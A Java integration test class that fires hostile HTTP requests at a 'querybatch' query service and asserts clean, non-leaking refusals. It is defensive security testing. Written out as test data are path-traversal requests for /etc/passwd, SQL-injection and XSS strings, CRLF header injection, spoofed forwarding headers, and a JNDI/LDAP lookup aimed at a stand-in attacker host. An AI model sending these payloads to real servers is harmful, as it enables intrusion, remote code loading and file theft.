package io.querybatch.security;

import static org.assertj.core.api.Assertions.assertThat;

import io.querybatch.testing.RawHttp;
import io.querybatch.testing.RawHttp.Answer;
import io.querybatch.testing.ServerUnderTest;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.json.JsonReader;
import java.io.StringReader;
import java.net.URI;
import java.net.URL;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.assertj.core.api.SoftAssertions;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** What attackers send, byte for byte, and what they must get: the exact refusal, and not a word more. */
@ExtendWith(ArquillianExtension.class)
@Tag("h2")
class HostileIT {

    private static final String PATH = "/query/batch/qrb_00000000000000000000";
    private static final String PLAIN = "Bearer realm=\"querybatch\"";
    private static final String NAMELESS = "an empty subject";
    private static final String INVALID = PLAIN + ", error=\"invalid_token\"";
    private static final String TOKEN = ServerUnderTest.tokens().token().sign();

    /** Of our program, its server, its database and its machine. */
    private static final String INSIDE = "(?is).*(\\bjava[x.]|jakarta|exception|\\bat"
            + " io\\.|querybatch\\.[a-z]+\\.|payara|grizzly|glassfish|jersey|weld|hibernate|jdbc|nimbus|select"
            + " |insert |/root|/home|/tmp|/work|/etc|127\\.0\\.0\\.1|localhost).*";

    @ArquillianResource
    private URL url;

    private RawHttp http;

    @Deployment(testable = false)
    static WebArchive war() {
        return ServerUnderTest.war();
    }

    @BeforeEach
    void connect() {
        http = new RawHttp(URI.create(url.toString()));
    }

    private List<String> request(String first) {
        return new ArrayList<>(List.of(first, "Host: " + http.authority(), "Connection: close"));
    }

    private Answer get(String path, String... headers) {
        List<String> lines = request("GET " + path + " HTTP/1.1");
        lines.addAll(List.of(headers));
        return http.head(lines.toArray(String[]::new));
    }

    private static void check(SoftAssertions softly, String name, Answer answer, int status, String code) {
        softly.assertThat(answer.status()).as(name + ": " + answer.body()).isEqualTo(status);
        softly.assertThat(answer.body()).as(name).doesNotMatch(INSIDE);
        softly.assertThat(answer.headers()).as(name).doesNotContainKeys("server", "x-powered-by", "x-injected");
        try (JsonReader reader = Json.createReader(new StringReader(answer.body()))) {
            JsonObject body = reader.readObject();
            softly.assertThat(body.keySet()).as(name).containsExactlyInAnyOrder("meta", "error");
            softly.assertThat(body.getJsonObject("error").getString("code"))
                    .as(name)
                    .isEqualTo(code);
            softly.assertThat(body.getJsonObject("meta").getString("request_id"))
                    .as(name)
                    .isEqualTo(answer.header("X-Request-Id"));
        } catch (RuntimeException e) {
            softly.fail(name + ": no envelope: " + answer.status() + " " + answer.body());
        }
    }

    @Test
    void aGoodTokenComesIn() {
        assertThat(get(PATH, "Authorization: Bearer " + TOKEN).status()).isEqualTo(404);
    }

    @Test
    void noHostileTokenComesIn() {
        Map<String, String> tokens =
                HostileTokens.of(ServerUnderTest.tokens(), Instant.now().getEpochSecond());
        assertThat(tokens).hasSizeGreaterThan(100);
        assertThat(tokens.remove(NAMELESS)).isNotNull();
        SoftAssertions softly = new SoftAssertions();
        tokens.forEach((name, token) -> {
            Answer answer = get(PATH, "Authorization: Bearer " + token);
            check(softly, name, answer, 401, "UNAUTHORIZED");
            softly.assertThat(answer.header("WWW-Authenticate")).as(name).isEqualTo(INVALID);
        });
        softly.assertAll();
    }

    /** WildFly stumbles over it before anything of ours, and answers 500. */
    @Tag("payara")
    @Test
    void aTokenOfNobodyDoesNotComeIn() {
        String token = HostileTokens.of(ServerUnderTest.tokens(), Instant.now().getEpochSecond())
                .get(NAMELESS);
        SoftAssertions softly = new SoftAssertions();
        check(softly, NAMELESS, get(PATH, "Authorization: Bearer " + token), 401, "UNAUTHORIZED");
        softly.assertAll();
    }

    @Test
    void aTokenComesInByItsHeaderOnly() {
        SoftAssertions softly = new SoftAssertions();
        for (String header : List.of(
                "X-Ignored: 1",
                "Authorization: Basic YW5uOmFubg==",
                "Authorization: " + TOKEN,
                "Authorization: Token " + TOKEN,
                "Proxy-Authorization: Bearer " + TOKEN,
                "X-Authorization: Bearer " + TOKEN,
                "Cookie: access_token=" + TOKEN + "; Authorization=" + TOKEN)) {
            Answer answer = get(PATH + "?access_token=" + TOKEN, header);
            String name = header.replace(TOKEN, "TOKEN");
            check(softly, name, answer, 401, "UNAUTHORIZED");
            softly.assertThat(answer.header("WWW-Authenticate")).as(name).isEqualTo(PLAIN);
        }
        softly.assertAll();
    }

    @Test
    void oneHeaderAndOneTokenIsWhatATokenIs() {
        String bad = ServerUnderTest.tokens().token().unsigned();
        SoftAssertions softly = new SoftAssertions();
        check(
                softly,
                "bad and good",
                get(PATH, "Authorization: Bearer " + bad, "Authorization: Bearer " + TOKEN),
                401,
                "UNAUTHORIZED");
        check(softly, "a list", get(PATH, "Authorization: Bearer " + bad + ", Bearer " + TOKEN), 401, "UNAUTHORIZED");
        check(
                softly,
                "a blank inside",
                get(PATH, "Authorization: Bearer " + TOKEN.replace(".", " .")),
                401,
                "UNAUTHORIZED");
        check(softly, "words behind it", get(PATH, "Authorization: Bearer " + TOKEN + " or 1=1"), 401, "UNAUTHORIZED");
        check(softly, "quoted", get(PATH, "Authorization: Bearer \"" + TOKEN + "\""), 401, "UNAUTHORIZED");
        check(softly, "nothing behind Bearer", get(PATH, "Authorization: Bearer"), 401, "UNAUTHORIZED");
        check(softly, "blanks behind Bearer", get(PATH, "Authorization: Bearer    "), 401, "UNAUTHORIZED");
        softly.assertAll();
    }

    /** The server refuses these before any application is asked: with nothing at all (docs/servers.md). */
    @Tag("payara")
    @Test
    void addressesThatAreNoneEndAtTheServer() {
        SoftAssertions softly = new SoftAssertions();
        for (String path : List.of(
                "/query/batch/..%2f..%2f..%2fetc%2fpasswd",
                "/query/batch/..%5c..%5cwindows%5cwin.ini",
                "/query/batch/%c0%ae%c0%ae%c0%af",
                "/query/batch/qrb_%00",
                "/query/batch/qrb_00000000000000000000%00.json")) {
            Answer answer = get(path, "Authorization: Bearer " + TOKEN);
            softly.assertThat(answer.status()).as(path).isEqualTo(400);
            softly.assertThat(answer.body()).as(path).isEmpty();
            softly.assertThat(answer.headers()).as(path).doesNotContainKeys("server", "x-powered-by");
        }
        softly.assertAll();
    }

    @Test
    void addressesThatLeadOutsideLeadNowhere() {
        SoftAssertions softly = new SoftAssertions();
        for (String path : List.of(
                "/query/batch/%252e%252e%252fetc%252fpasswd",
                "/query/batch/qrb_00000000000000000000;jsessionid=1",
                "/query/batch/%27%20or%201=1--",
                "/query/batch/%24%7bjndi:ldap://attacker.example/a%7d",
                "/query/batch/%3Cscript%3Ealert(1)%3C/script%3E",
                "/query/batch/" + "a".repeat(2000),
                "/query/results?schedule_id=..%2f..%2fdb%2fquerybatch",
                "/WEB-INF/web.xml",
                "/WEB-INF/classes/META-INF/microprofile-config.properties",
                "/web-inf/web.xml",
                "/META-INF/MANIFEST.MF",
                "//WEB-INF/web.xml",
                "/console/%2e%2e/WEB-INF/web.xml",
                "/.git/config",
                "/.env",
                "/actuator/env",
                "/h2-console",
                "/management/domain",
                "/asadmin",
                "/server-status")) {
            Answer answer = get(path, "Authorization: Bearer " + TOKEN);
            boolean result = path.startsWith("/query/results");
            check(softly, path, answer, 404, result ? "QUERY_RESULTS_UNAVAILABLE" : "NOT_FOUND");
        }
        softly.assertAll();
    }

    /** Open Liberty ends these with a page of its own, or takes them for something else; nothing comes of them (docs/servers/liberty.md). */
    @Tag("not-liberty")
    @Test
    void addressesWithSeparatorsInDisguiseLeadNowhere() {
        SoftAssertions softly = new SoftAssertions();
        for (String path : List.of(
                "/query/schedule/..%2f..%2fadmin", "/query/batch/qrb_00000000000000000000%0d%0aX-Injected:%201")) {
            check(softly, path, get(path, "Authorization: Bearer " + TOKEN), 404, "NOT_FOUND");
        }
        softly.assertAll();
    }

    @Test
    void methodsThatNobodyNeedsAreNotThere() {
        SoftAssertions softly = new SoftAssertions();
        for (String method : List.of("TRACK", "DEBUG", "PROPFIND", "MOVE", "CONNECT", "PUT", "JEFF")) {
            List<String> lines = request(method + " " + PATH + " HTTP/1.1");
            lines.add("Authorization: Bearer " + TOKEN);
            lines.add("Content-Length: 0");
            Answer answer = http.head(lines.toArray(String[]::new));
            check(softly, method, answer, 405, "METHOD_NOT_ALLOWED");
            softly.assertThat(answer.body()).as(method).doesNotContain(TOKEN);
        }
        for (String header : List.of("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")) {
            Answer answer = get(PATH, "Authorization: Bearer " + TOKEN, header + ": DELETE");
            check(softly, header, answer, 404, "NOT_FOUND");
        }
        softly.assertAll();
    }

    /** Open Liberty refuses it by itself, 403 and a page. */
    @Tag("not-liberty")
    @Test
    void nothingIsTraced() {
        List<String> lines = request("TRACE " + PATH + " HTTP/1.1");
        lines.add("Authorization: Bearer " + TOKEN);
        Answer answer = http.head(lines.toArray(String[]::new));
        SoftAssertions softly = new SoftAssertions();
        check(softly, "TRACE", answer, 405, "METHOD_NOT_ALLOWED");
        softly.assertThat(answer.header("Allow")).isEqualTo("GET, HEAD, POST, PATCH, DELETE, OPTIONS");
        softly.assertAll();
    }

    /** Names of methods are case-sensitive (RFC 9110 §9.1); WildFly takes this one for GET. */
    @Tag("payara")
    @Test
    void aMethodInSmallLettersIsAnother() {
        List<String> lines = request("get " + PATH + " HTTP/1.1");
        lines.add("Authorization: Bearer " + TOKEN);
        assertThat(http.head(lines.toArray(String[]::new)).status()).isEqualTo(405);
    }

    /** WildFly takes the way back for one inside of the console, and sends there. */
    @Tag("payara")
    @Test
    void aSlashInDisguiseLeadsNowhere() {
        String path = "/console/..%2fWEB-INF/web.xml";
        SoftAssertions softly = new SoftAssertions();
        check(softly, path, get(path, "Authorization: Bearer " + TOKEN), 404, "NOT_FOUND");
        softly.assertAll();
    }

    @Test
    void nobodyTellsUsWhoWeAre() {
        Answer answer = get(
                "/query/fields?ds_id=FLIGHTS",
                "Authorization: Bearer " + TOKEN,
                "X-Forwarded-Host: attacker.example",
                "X-Forwarded-Proto: gopher",
                "Forwarded: host=attacker.example;proto=https",
                "X-Original-URL: /admin",
                "X-Rewrite-URL: /admin",
                "X-Request-Id: attacker\u0000.example");
        assertThat(answer.status()).as(answer.body()).isIn(200, 400);
        assertThat(answer.body() + answer.headers()).doesNotContain("attacker.example", "gopher");
    }
}
